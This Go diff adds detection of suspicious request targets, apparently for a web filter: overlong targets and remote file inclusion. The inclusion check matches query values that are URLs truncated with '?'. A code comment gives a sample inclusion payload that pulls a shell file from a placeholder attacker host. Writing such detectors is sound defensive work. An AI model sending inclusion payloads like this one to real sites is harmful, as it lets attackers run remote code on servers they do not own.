@@ -154,3 +154,49 @@ func errPathHash(r *record) uint32 {
 	}
 	return h | 1
 }
+
+// Target shapes, as rules name them in match.target_shape.
+const (
+	shapeRFI = iota
+	shapeOverlong
+	numShapes
+)
+
+var shapeNames = [numShapes]string{"rfi", "overlong"}
+
+// targetShapes returns the shapes of a raw request target as a bit set.
+func targetShapes(t []byte) uint8 {
+	var m uint8
+	if len(t) >= 1024 {
+		m |= 1 << shapeOverlong
+	}
+	if isRFI(t) {
+		m |= 1 << shapeRFI
+	}
+	return m
+}
+
+// isRFI reports whether a query parameter's value is a URL that ends in
+// "?" (or "%3F"), which cuts off what the script appends: a remote file
+// inclusion, ?page=http://evil.example/shell.txt?.
+func isRFI(t []byte) bool {
+	q := bytes.IndexByte(t, '?')
+	if q < 0 {
+		return false
+	}
+	for _, param := range bytes.Split(t[q+1:], []byte("&")) {
+		eq := bytes.IndexByte(param, '=')
+		if eq < 0 {
+			continue
+		}
+		v := param[eq+1:]
+		if !hasPrefixFold(v, "http://") && !hasPrefixFold(v, "https://") && !hasPrefixFold(v, "ftp://") &&
+			!hasPrefixFold(v, "http%3a%2f%2f") && !hasPrefixFold(v, "https%3a%2f%2f") {
+			continue
+		}
+		if bytes.IndexByte(v[6:], '?') >= 0 || bytes.HasSuffix(bytes.ToLower(v), []byte("%3f")) {
+			return true
+		}
+	}
+	return false
+}
